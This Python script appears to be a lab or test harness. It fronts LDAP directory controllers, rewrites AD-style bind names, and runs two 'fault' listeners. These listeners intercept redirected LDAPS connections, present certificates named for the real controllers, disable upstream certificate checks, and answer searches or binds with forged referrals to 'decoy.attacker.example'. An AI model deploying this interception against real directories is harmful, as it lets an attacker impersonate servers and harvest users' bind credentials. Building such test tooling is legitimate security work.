"""LDAP over TLS, in front of a directory: what slapd cannot be configured to do, and what a fault does.

dc2's slapd refuses the name that Active Directory takes for a bind, svc@uni.edu; this listener turns
it into the account's DN. Two faults lead connections for a controller to the others, which answer a
search, or a bind, with a referral (RFC 4511 section 4.1.10) to the decoy.
Usage: directory.py CERTIFICATES
"""
import os
import socket
import ssl
import struct
import sys
import threading

from relay import relay

CERTIFICATES = sys.argv[1]
BIND, SEARCH = 0x60, 0x63
BIND_RESPONSE, SEARCH_DONE = 0x61, 0x65
REFERRAL = 10
DECOY = b"ldaps://decoy.attacker.example/dc=uni,dc=edu"
NAMES = {"198.18.2.21": "dc1.uni.edu", "198.18.2.22": "dc2.uni.edu"}


def element(tag, content):
    length = len(content)
    if length < 0x80:
        return bytes([tag, length]) + content
    return bytes([tag, 0x84]) + struct.pack("!I", length) + content


def take(data, at):
    """The element at that offset: its tag, its content, and where the next begins."""
    tag, length, start = data[at], data[at + 1], at + 2
    if length & 0x80:
        more = length & 0x7F
        length = int.from_bytes(data[start : start + more], "big")
        start += more
    if start + length > len(data):
        raise IndexError
    return tag, data[start : start + length], start + length


def messages(answer):
    """Cuts what a client sends into messages, each of which is changed or answered."""
    pending = b""

    def see(data):
        nonlocal pending
        pending += data
        to_server = back = b""
        while True:
            try:
                _, content, end = take(pending, 0)
            except IndexError:
                return to_server, back
            own, passed = answer(pending[:end], content)
            to_server, back, pending = to_server + passed, back + own, pending[end:]

    return see


def parts(content):
    """Message id (as it came), operation's tag, operation, and the controls behind it."""
    _, _, end = take(content, 0)
    tag, operation, after = take(content, end)
    return content[:end], tag, operation, content[after:]


def plain_name(message, content):
    identity, tag, operation, controls = parts(content)
    if tag != BIND:
        return b"", message
    _, _, version_end = take(operation, 0)
    _, name, name_end = take(operation, version_end)
    user, at, domain = name.decode("utf-8", "replace").partition("@")
    if not at or domain.lower() != "uni.edu":
        return b"", message
    name = element(4, f"cn={user},cn=Users,dc=uni,dc=edu".encode())
    operation = operation[:version_end] + name + operation[name_end:]
    return b"", element(0x30, identity + element(tag, operation) + controls)


def referral(asked, response):
    def answer(message, content):
        identity, tag, operation, _ = parts(content)
        if tag != asked or (tag == SEARCH and not take(operation, 0)[1]):
            return b"", message  # the rootDSE is shown as ever
        result = bytes([10, 1, REFERRAL, 4, 0, 4, 0]) + element(0xA3, element(4, DECOY))
        return element(0x30, identity + element(response, result)), b""

    return answer


def original(connection):
    raw = connection.getsockopt(socket.SOL_IP, 80, 16)
    return socket.inet_ntop(socket.AF_INET, raw[4:8]), struct.unpack("!H", raw[2:4])[0]


def front(connection, address):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(os.path.join(CERTIFICATES, NAMES[address] + ".pem"))
    return context.wrap_socket(connection, server_side=True)


def names(connection):
    with front(connection, connection.getsockname()[0]) as client:
        with socket.create_connection(("127.0.0.1", 1389)) as server:
            relay(client, server, messages(plain_name))


def refers(answer):
    def serve(connection):
        address, port = original(connection)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        with front(connection, address) as client:
            with context.wrap_socket(socket.create_connection((address, port))) as server:
                relay(client, server, messages(answer))

    return serve


def listen(address, serve):
    def one(connection):
        with connection:
            try:
                serve(connection)
            except (OSError, IndexError):
                pass

    def accept():
        while True:
            connection, _ = listener.accept()
            threading.Thread(target=one, args=(connection,), daemon=True).start()

    listener = socket.create_server(address)
    return threading.Thread(target=accept)


threads = [
    listen(("198.18.2.22", 636), names),
    listen(("", 9021), refers(referral(SEARCH, SEARCH_DONE))),
    listen(("", 9022), refers(referral(BIND, BIND_RESPONSE))),
]
for thread in threads:
    thread.start()
